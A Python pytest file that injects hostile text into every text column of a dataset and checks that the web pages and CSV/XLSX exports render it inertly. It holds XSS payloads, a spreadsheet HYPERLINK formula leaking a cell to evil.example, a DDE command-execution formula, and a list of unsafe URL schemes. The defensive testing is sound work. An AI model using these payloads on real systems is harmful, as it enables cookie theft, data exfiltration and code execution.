"""Every text column of the released file filled with hostile content: no page, file or workbook runs any of it."""

from __future__ import annotations

import csv
import html
import io
import re
import shutil
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pytest
from openpyxl import load_workbook

from pages.card import export
from pages.card.tidy import FORMULA, defuse
from pages.cards.kinds import build_card
from pages.frame.menu import BY_PATH
from pages.view.templates import leads_somewhere
from pages.view.view import View, open_view
from pages.web import whole_page
from queries.database import Database, Edition
from tests.data.release.test_text_columns import read_register

pytestmark = pytest.mark.slow
HOSTILE = """=HYPERLINK("http://evil.example?"&A1,"x")<script>alert(1)</script>' onmouseover='alert(1)" onfocus="alert(1)</span>\x07"""
ADDRESS = "javascript:alert(document.cookie)"
WORDS = {"framework", "record", "programme", "steward", "release"}
KEEPS_ITS_MEANING = re.compile(
    r"code$|paradigm$|geometry$|clause$|formula$|computed$|^kind|unit$|color|marker|iso$|area_code$|locale|contact$|^role$|hash|cleared_by"
)


@pytest.fixture(scope="module")
def hostile(program: Path, tmp_path_factory: pytest.TempPathFactory) -> Edition:
    """A released file whose texts are all hostile; codes and keys stay."""
    path = Path(shutil.copy(program, tmp_path_factory.mktemp("hostile") / "program.duckdb"))
    changed = 0
    with duckdb.connect(str(path)) as connection:
        for (table, column), step in read_register().items():
            address = column == "url" or column.endswith("_url")
            if (
                step in WORDS
                and (address or column.endswith(("_en", "_es")) or column in ("stated_in", "text", "evidence"))
                and not KEEPS_ITS_MEANING.search(column)
            ):
                text = ADDRESS if address else HOSTILE
                connection.execute(f'update "{table}" set "{column}" = $1 where "{column}" is not null', [text])
                changed += 1
    assert changed > 100
    return Database(path).current()


def pages(edition: Edition) -> Iterator[View]:
    """Each page as it opens, and some with a choice."""
    chosen: dict[str, dict[str, list[str]]] = {
        "/prosecution": {"activity": ["1.6"]},
        "/public-record": {"subject": ["victims"]},
        "/regions": {"region": ["LOR"]},
    }
    for path in BY_PATH:
        for asked in ({}, {**chosen.get(path, {}), "lang": ["es"]}):
            yield open_view(edition, asked, path)


def is_own_form(tag: str, attributes: dict[str, str | None]) -> bool:
    """Whether it is the form of the filters, which asks this server for the same page."""
    return tag == "form" and (attributes.get("class"), attributes.get("method")) == ("plain", "get") and attributes.get("action") in BY_PATH


class Running(HTMLParser):
    """Notes what would run, or lead to another kind of address than one of the web."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found += [f"<{tag}>"] if tag in ("script", "iframe", "object", "embed", "form") and not is_own_form(tag, dict(attributes)) else []
        self.found += [f"<{tag} {name}>" for name, _ in attributes if name.startswith("on")]
        self.found += [value for name, value in attributes if tag == "a" and name == "href" and value and not leads_somewhere(value)]


def links_and_scripts(text: str) -> list[str]:
    """What of a page would run."""
    reading = Running()
    reading.feed(text)
    return reading.found


def test_no_page_and_no_offline_file_runs_anything(hostile: Edition) -> None:
    for view in pages(hostile):
        for text in (whole_page._first(view), whole_page.write_file(view, "http://localhost:8501").decode()):
            assert links_and_scripts(text) == [], view.path
            assert not text or "alert(1)" in text or view.path in ("/", "/dictionary"), "the hostile text is shown as text"


def test_no_cell_of_any_file_is_a_formula(hostile: Edition) -> None:
    cells, cards = 0, set()
    for view in pages(hostile):
        for address in dict.fromkeys(re.findall(r'data-card="([^"]*)"', whole_page._first(view))):
            if (view.words.language, address) in cards:
                continue
            cards.add((view.words.language, address))
            card = build_card(view, html.unescape(address))
            rows = list(csv.reader(io.StringIO(export.FORMATS["csv"].write(view, card, "").decode("utf-8-sig"))))
            assert [
                value for row in rows for value in row if len(value) > 1 and value.lstrip(" ")[:1] in tuple(FORMULA) and not is_number(value)
            ] == [], address
            book = load_workbook(io.BytesIO(export.FORMATS["xlsx"].write(view, card, "")))
            for sheet in book:
                for row in sheet.iter_rows():
                    assert [each.coordinate for each in row if each.data_type == "f" or each.hyperlink] == [], (address, sheet.title)
                    cells += len(row)
    assert len(cards) > 60 and cells > 20_000


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", " =1+1", "\t=1", "\r=1", "\n=1", "＝1+1", "=cmd|' /C calc'!A0", "=\x00x"])
def test_what_begins_like_a_formula_is_text(text: str) -> None:
    assert str(defuse(text)).startswith("'") and "\x00" not in str(defuse(text))


@pytest.mark.parametrize(
    "address", ["javascript:x", "JAVASCRIPT:x", " javascript:x", "data:text/html,x", "//evil.example", "/\\evil.example", "vbscript:x", "ftp://x", ""]
)
def test_what_is_no_address_of_the_web_is_no_link(address: str) -> None:
    assert not leads_somewhere(address)
